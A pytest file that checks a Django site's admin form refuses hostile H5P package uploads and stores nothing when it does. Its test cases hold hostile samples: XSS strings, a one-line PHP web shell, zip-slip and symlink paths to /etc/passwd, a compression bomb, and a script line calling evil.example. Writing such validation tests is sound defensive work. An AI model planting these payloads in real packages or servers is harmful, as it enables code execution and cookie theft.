"""Hostile .h5p packages, uploaded through the admin form: each rule refuses the package with
its own message, and a refused upload leaves no file and no row behind.

Every hostile package is the real H5P.TrueFalse package with one thing broken. The limits of
200 MB unpacked and 50 MB uploaded are tested by lowering the module's constants around the
real package, rather than by building packages that large.
"""

import functools
import re
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils.html import escape

from academy.h5p import package as h5p_package
from academy.h5p.package import PackageRefused
from academy.h5p.services import check_upload
from academy.models import H5PActivity, H5PLibrary
from tests.factories.h5p import truefalse_files, upload, with_json, zip_bytes

pytestmark = pytest.mark.django_db

ADD = "wagtailsnippets_academy_h5pactivity:add"
LISTING = "wagtailsnippets_academy_h5pactivity:list"
TRUEFALSE = "H5P.TrueFalse-1.6"
LIBRARY_LABELS = [
    "Drop 1.0",
    "FontAwesome 4.5",
    "H5P.FontIcons 1.0",
    "H5P.JoubelUI 1.3",
    "H5P.Question 1.4",
    "H5P.Transition 1.0",
    "H5P.TrueFalse 1.6",
    "H5PEditor.RadioGroup 1.1",
    "H5PEditor.ShowWhen 1.0",
    "Tether 1.0",
]


# --- Building hostile packages from the real one ----------------------------------------------


@functools.cache
def _real_files():
    return truefalse_files()


def real():
    """A fresh copy of the real package's files (path -> bytes)."""
    return dict(_real_files())


@functools.cache
def real_zip():
    return zip_bytes(_real_files())


def member(name, data=b"{}", *, mode=None):
    """A raw ZIP member, written as is (no name clean-up), with a Unix file mode if given."""
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    if mode is not None:
        info.create_system = 3  # Unix, so that the mode bits mean what they say
        info.external_attr = mode << 16
    return info, data


def plus(*entries):
    """The real package plus raw members (a repeated name too: zipfile only warns)."""
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message="Duplicate name", category=UserWarning)
        return zip_bytes(real(), entries=entries)


def plus_file(name, data):
    """The real package plus one ordinary file."""
    return zip_bytes(real() | {name: data})


def without(*paths):
    files = real()
    for path in paths:
        if path.endswith("/"):
            files = {name: data for name, data in files.items() if not name.startswith(path)}
        else:
            del files[path]
    return zip_bytes(files)


def moved(old_folder, new_folder):
    """The real package with one folder renamed."""
    files = {}
    for name, data in real().items():
        if name.startswith(old_folder):
            name = new_folder + name.removeprefix(old_folder)
        files[name] = data
    return zip_bytes(files)


def changed_json(path, change):
    return zip_bytes(with_json(real(), path, change))


def replaced(path, data):
    return zip_bytes(real() | {path: data})


def padded_to(count):
    files = real()
    for index in range(count - len(files)):
        files[f"content/notes/{index}.txt"] = b"note"
    return zip_bytes(files)


def real_total_size():
    return sum(len(data) for data in _real_files().values())


# --- The cases: one rule broken each ----------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    rule: str  # cases of one rule share a message; different rules never do
    expected: str  # a distinctive part of the refusal
    build: object  # monkeypatch -> the package's bytes

    def package(self, monkeypatch):
        return self.build(monkeypatch)


def _pop(key):
    return lambda value: value.pop(key)


def _set(key, new):
    return lambda value: value.__setitem__(key, new)


def _lower_uncompressed_limit(monkeypatch):
    # The real package fits exactly; one more small file puts it over.
    monkeypatch.setattr(h5p_package, "MAX_UNCOMPRESSED_BYTES", real_total_size())
    return plus_file("content/notes.txt", b"One sentence too many.\n")


def _lower_upload_limit(monkeypatch):
    monkeypatch.setattr(h5p_package, "MAX_UPLOAD_BYTES", len(real_zip()) - 1)
    return real_zip()


def _missing_image(value):
    value["media"]["type"] = {
        "library": "H5P.Image 1.1",
        "params": {"file": {"path": "images/courtroom.jpg", "mime": "image/jpeg"}},
    }


def _escaping_image(value):
    value["media"]["type"] = {
        "library": "H5P.Image 1.1",
        "params": {"file": {"path": "../../h5p.json", "mime": "image/jpeg"}},
    }


def _without_font_icons(monkeypatch):
    """H5P.FontIcons gone, and no longer listed in h5p.json: libraries still need it."""
    files = {n: d for n, d in real().items() if not n.startswith("H5P.FontIcons-1.0/")}

    def unlist(value):
        value["preloadedDependencies"] = [
            dependency
            for dependency in value["preloadedDependencies"]
            if dependency["machineName"] != "H5P.FontIcons"
        ]

    return zip_bytes(with_json(files, "h5p.json", unlist))


SYMLINK = 0o120777
HOSTILE = {
    # Not a package at all.
    "not-a-zip": Hostile(
        "zip", "not an H5P package (not a ZIP archive)", lambda mp: b"%PDF-1.7\n%\xe2\xe3\n"
    ),
    "truncated-zip": Hostile(
        "zip", "not an H5P package (not a ZIP archive)", lambda mp: real_zip()[:-200]
    ),
    # The allow-lists of file types.
    "content-js": Hostile(
        "extension",
        "not allowed in an H5P package: content/evil.js",
        lambda mp: plus_file("content/evil.js", b"alert(document.cookie)"),
    ),
    "content-svg": Hostile(
        "extension",
        "not allowed in an H5P package: content/x.svg",
        lambda mp: plus_file("content/x.svg", b"<svg onload='alert(1)'/>"),
    ),
    "content-html": Hostile(
        "extension",
        "not allowed in an H5P package: content/a.html",
        lambda mp: plus_file("content/a.html", b"<script>alert(1)</script>"),
    ),
    "library-exe": Hostile(
        "extension",
        f"not allowed in an H5P package: {TRUEFALSE}/x.exe",
        lambda mp: plus(member(f"{TRUEFALSE}/x.exe", b"MZ\x90\x00")),
    ),
    "library-php": Hostile(
        "extension",
        f"not allowed in an H5P package: {TRUEFALSE}/scripts/shell.php",
        lambda mp: plus(member(f"{TRUEFALSE}/scripts/shell.php", b"<?php system($_GET[0]);")),
    ),
    "library-no-extension": Hostile(
        "extension",
        f"not allowed in an H5P package: {TRUEFALSE}/run",
        lambda mp: plus(member(f"{TRUEFALSE}/run", b"#!/bin/sh\n")),
    ),
    "top-level-file": Hostile(
        "top", "unexpected file at its top: readme.txt", lambda mp: plus_file("readme.txt", b"hi")
    ),
    # Paths that leave the package, and files that are not files.
    "zip-slip-parent": Hostile(
        "slip", "path leaves its folder: ../evil.js", lambda mp: plus(member("../evil.js"))
    ),
    "zip-slip-nested": Hostile(
        "slip",
        "path leaves its folder: content/../../x.json",
        lambda mp: plus(member("content/../../x.json")),
    ),
    "zip-slip-backslash": Hostile(
        "slip",
        "path leaves its folder: content\\..\\..\\x.json",
        lambda mp: plus(member("content\\..\\..\\x.json")),
    ),
    "zip-slip-dot": Hostile(
        "slip",
        "path leaves its folder: content/./content.json",
        lambda mp: plus(member("content/./content.json")),
    ),
    "double-slash": Hostile(
        "slip",
        "path leaves its folder: content//content.json",
        lambda mp: plus(member("content//content.json")),
    ),
    "absolute-posix": Hostile(
        "absolute",
        "absolute path: /etc/passwd.json",
        lambda mp: plus(member("/etc/passwd.json")),
    ),
    "absolute-windows": Hostile(
        "absolute", "absolute path: C:\\x.json", lambda mp: plus(member("C:\\x.json"))
    ),
    "symlink": Hostile(
        "symlink",
        "symbolic link: content/image.png",
        lambda mp: plus(member("content/image.png", b"/etc/passwd", mode=SYMLINK)),
    ),
    "symlink-library": Hostile(
        "symlink",
        f"symbolic link: {TRUEFALSE}/scripts/linked.js",
        lambda mp: plus(member(f"{TRUEFALSE}/scripts/linked.js", b"../../..", mode=SYMLINK)),
    ),
    "duplicate-name": Hostile(
        "duplicate",
        "the same file twice: content/content.json",
        lambda mp: plus(member("content/content.json", b'{"correct": "true"}')),
    ),
    "case-clash": Hostile(
        "case",
        "differ only in case: content/Image.png and content/image.png",
        lambda mp: plus(member("content/Image.png", b"png"), member("content/image.png", b"png")),
    ),
    "case-clash-folder": Hostile(
        "case",
        f"differ only in case: {TRUEFALSE}/library.json and H5P.TRUEFALSE-1.6/library.json",
        lambda mp: plus(member("H5P.TRUEFALSE-1.6/library.json")),
    ),
    # Limits.
    "2001-entries": Hostile("entries", "holds more than 2000 files", lambda mp: padded_to(2001)),
    "over-200mb-unpacked": Hostile(
        "unpacked", "Unpacked, the package would be larger than 200 MB", _lower_uncompressed_limit
    ),
    "over-50mb-upload": Hostile("upload", "The package is larger than 50 MB", _lower_upload_limit),
    "compression-ratio": Hostile(
        "ratio",
        "content/zeros.txt is compressed more than 100 times",
        lambda mp: plus_file("content/zeros.txt", bytes(1024 * 1024)),
    ),
    # h5p.json and content/content.json.
    "h5p-json-missing": Hostile(
        "h5p-missing", "The package has no h5p.json", lambda mp: without("h5p.json")
    ),
    "h5p-json-not-json": Hostile(
        "h5p-invalid", "h5p.json is not valid JSON", lambda mp: replaced("h5p.json", b"{title:")
    ),
    "h5p-json-array": Hostile(
        "h5p-invalid", "h5p.json is not valid JSON", lambda mp: replaced("h5p.json", b"[]")
    ),
    "h5p-json-no-main-library": Hostile(
        "h5p-incomplete",
        "h5p.json lacks mainLibrary",
        lambda mp: changed_json("h5p.json", _pop("mainLibrary")),
    ),
    "h5p-json-no-dependencies": Hostile(
        "h5p-incomplete",
        "h5p.json lacks preloadedDependencies",
        lambda mp: changed_json("h5p.json", _pop("preloadedDependencies")),
    ),
    "h5p-json-dependencies-not-a-list": Hostile(
        "not-a-list",
        "In h5p.json, preloadedDependencies is not a list",
        lambda mp: changed_json("h5p.json", _set("preloadedDependencies", 5)),
    ),
    "content-json-missing": Hostile(
        "content-missing",
        "The package has no content/content.json",
        lambda mp: without("content/content.json"),
    ),
    "content-json-not-json": Hostile(
        "content-invalid",
        "content/content.json is not valid JSON",
        lambda mp: replaced("content/content.json", b'{"correct": tru'),
    ),
    "content-json-string": Hostile(
        "content-invalid",
        "content/content.json is not valid JSON",
        lambda mp: replaced("content/content.json", b'"true"'),
    ),
    # Libraries.
    "dependency-missing": Hostile(
        "dependency",
        "h5p.json needs the library Tether-1.0, which the package does not hold",
        lambda mp: without("Tether-1.0/"),
    ),
    "library-dependency-missing": Hostile(
        "dependency",
        "needs the library H5P.FontIcons-1.0, which the package does not hold",
        _without_font_icons,
    ),
    "preloaded-js-missing": Hostile(
        "preloaded",
        f"The library {TRUEFALSE} needs the file scripts/h5p-true-false-answer.js, which is "
        "missing",
        lambda mp: without(f"{TRUEFALSE}/scripts/h5p-true-false-answer.js"),
    ),
    "preloaded-css-missing": Hostile(
        "preloaded",
        f"The library {TRUEFALSE} needs the file styles/h5p-true-false.css, which is missing",
        lambda mp: without(f"{TRUEFALSE}/styles/h5p-true-false.css"),
    ),
    "library-folder-other-version": Hostile(
        "folder-mismatch",
        "The folder H5P.TrueFalse-9.9 holds the library H5P.TrueFalse-1.6; the names must match",
        lambda mp: moved(f"{TRUEFALSE}/", "H5P.TrueFalse-9.9/"),
    ),
    "library-folder-unversioned": Hostile(
        "folder-name",
        "The folder truefalse is not named like an H5P library (Name-major.minor)",
        lambda mp: moved(f"{TRUEFALSE}/", "truefalse/"),
    ),
    "library-json-missing": Hostile(
        "library-json",
        "The library folder H5P.Transition-1.0 has no library.json",
        lambda mp: without("H5P.Transition-1.0/library.json"),
    ),
    "library-json-not-an-object": Hostile(
        "library-json-invalid",
        f"{TRUEFALSE}/library.json is not valid JSON",
        lambda mp: replaced(f"{TRUEFALSE}/library.json", b"[]"),
    ),
    "library-json-no-version": Hostile(
        "library-version",
        f"{TRUEFALSE}/library.json does not give the library's name and version",
        lambda mp: changed_json(f"{TRUEFALSE}/library.json", _pop("majorVersion")),
    ),
    "library-preloaded-js-not-a-list": Hostile(
        "not-a-list",
        f"In {TRUEFALSE}/library.json, preloadedJs is not a list",
        lambda mp: changed_json(
            f"{TRUEFALSE}/library.json", _set("preloadedJs", "scripts/h5p-true-false.js")
        ),
    ),
    "main-library-absent": Hostile(
        "main-library",
        "The main library H5P.MultiChoice is not in the package",
        lambda mp: changed_json("h5p.json", _set("mainLibrary", "H5P.MultiChoice")),
    ),
    "media-not-packaged": Hostile(
        "media",
        "content.json refers to images/courtroom.jpg, which the package does not hold",
        lambda mp: changed_json("content/content.json", _missing_image),
    ),
    "media-path-escapes": Hostile(
        "media-unsafe",
        "content.json refers to a path outside the package: ../../h5p.json",
        lambda mp: changed_json("content/content.json", _escaping_image),
    ),
}
CASES = [pytest.param(case, id=case_id) for case_id, case in HOSTILE.items()]


# --- Helpers around the admin form ------------------------------------------------------------


def stored_files():
    """Every file stored, public media and private storage alike (H5P's is private)."""
    roots = [Path(settings.MEDIA_ROOT), Path(settings.PRIVATE_MEDIA_ROOT)]
    return sorted(
        path.relative_to(root).as_posix()
        for root in roots
        for path in root.rglob("*")
        if path.is_file()
    )


def post_package(client, data, title="Hostile package"):
    return client.post(reverse(ADD), {"title": title, "package": upload(data)})


def package_error(response):
    assert response.status_code == 200, response.get("Location")
    form = response.context["form"]
    assert list(form.errors) == ["package"], form.errors
    [message] = form.errors["package"]
    assert escape(message) in response.content.decode()
    return message


def listed_status(client, title):
    html = client.get(reverse(LISTING)).content.decode()
    row = re.search(
        rf">{re.escape(title)}</span>.*?</td>\s*<td[^>]*>\s*(\w+)\s*</td>", html, re.DOTALL
    )
    assert row, f"{title} is not listed"
    return row.group(1)


@pytest.fixture
def staff_client(client, academy_staff):
    client.force_login(academy_staff)
    return client


# --- The tests --------------------------------------------------------------------------------


def test_the_upload_form_has_a_title_and_a_package_field(staff_client):
    response = staff_client.get(reverse(ADD))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'name="title"' in html
    assert 'name="package"' in html
    assert 'accept=".h5p"' in html


def test_the_real_package_uploads_processes_and_is_listed(
    staff_client, academy_staff, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = post_package(staff_client, real_zip(), title="")
        assert response.status_code == 302
        assert response.url == reverse(LISTING)
        activity = H5PActivity.objects.get()
        assert (activity.title, activity.status) == ("Hello World", H5PActivity.Status.PROCESSING)
        assert activity.uploaded_by == academy_staff
        assert listed_status(staff_client, "Hello World") == "Processing"
        assert H5PLibrary.objects.count() == 0  # nothing unpacked before the commit
    assert len(callbacks) == 1
    activity.refresh_from_db()
    assert activity.status == H5PActivity.Status.READY
    assert activity.libraries.count() == 10
    assert listed_status(staff_client, "Hello World") == "Ready"
    assert f"h5p/packages/{Path(activity.package.name).name}" in stored_files()


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_package_is_refused_with_its_message_and_leaves_nothing(
    staff_client, monkeypatch, django_capture_on_commit_callbacks, case
):
    data = case.package(monkeypatch)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = post_package(staff_client, data)
    assert case.expected in package_error(response)
    assert callbacks == []
    assert H5PActivity.objects.count() == 0
    assert H5PLibrary.objects.count() == 0
    assert stored_files() == []


def test_each_rule_has_its_own_message(academy_staff):
    """Cases of different rules never share a message, nor one another's distinctive part."""
    messages = {}
    for case_id, case in HOSTILE.items():
        with pytest.MonkeyPatch.context() as monkeypatch:
            data = case.package(monkeypatch)
            with pytest.raises(PackageRefused) as refusal:
                check_upload(upload(data), academy_staff)
        messages[case_id] = refusal.value.message
    for case_id, case in HOSTILE.items():
        assert case.expected in messages[case_id], case_id
        for other_id, other in HOSTILE.items():
            if other.rule != case.rule:
                assert case.expected not in messages[other_id], (case_id, other_id)
                assert messages[case_id] != messages[other_id], (case_id, other_id)


def test_the_limits_let_the_real_package_through_at_exactly_the_limit(academy_staff, monkeypatch):
    assert check_upload(upload(padded_to(2000)), academy_staff).main_library == "H5P.TrueFalse"
    monkeypatch.setattr(h5p_package, "MAX_UNCOMPRESSED_BYTES", real_total_size())
    monkeypatch.setattr(h5p_package, "MAX_UPLOAD_BYTES", len(real_zip()))
    assert check_upload(upload(real_zip()), academy_staff).main_library == "H5P.TrueFalse"


def test_an_editor_may_not_install_libraries(client, editor):
    client.force_login(editor)
    message = package_error(post_package(client, real_zip()))
    assert "Only Academy staff may install libraries" in message
    for label in LIBRARY_LABELS:
        assert label in message
    assert H5PActivity.objects.count() == 0
    assert H5PLibrary.objects.count() == 0
    assert stored_files() == []


def test_an_editor_reuses_the_libraries_staff_installed(
    client, editor, activity, django_capture_on_commit_callbacks
):
    installed = set(H5PLibrary.objects.values_list("pk", flat=True))
    library_files = [name for name in stored_files() if name.startswith("h5p/libraries/")]
    client.force_login(editor)
    with django_capture_on_commit_callbacks(execute=True):
        response = post_package(client, real_zip(), title="The editor's copy")
    assert response.status_code == 302
    copy = H5PActivity.objects.get(title="The editor's copy")
    assert copy.status == H5PActivity.Status.READY
    assert set(copy.libraries.values_list("pk", flat=True)) == installed
    assert set(H5PLibrary.objects.values_list("pk", flat=True)) == installed
    assert [name for name in stored_files() if name.startswith("h5p/libraries/")] == library_files


def test_an_editor_may_not_bring_a_changed_library(client, editor, activity):
    files = real()
    files[f"{TRUEFALSE}/scripts/h5p-true-false.js"] += b"\nfetch('https://evil.example');\n"
    before = stored_files()
    client.force_login(editor)
    message = package_error(post_package(client, zip_bytes(files)))
    assert "differ from the installed ones: H5P.TrueFalse 1.6.1." in message
    assert "Only Academy staff may install libraries" in message
    assert H5PActivity.objects.count() == 1
    assert H5PLibrary.objects.count() == 10
    assert stored_files() == before
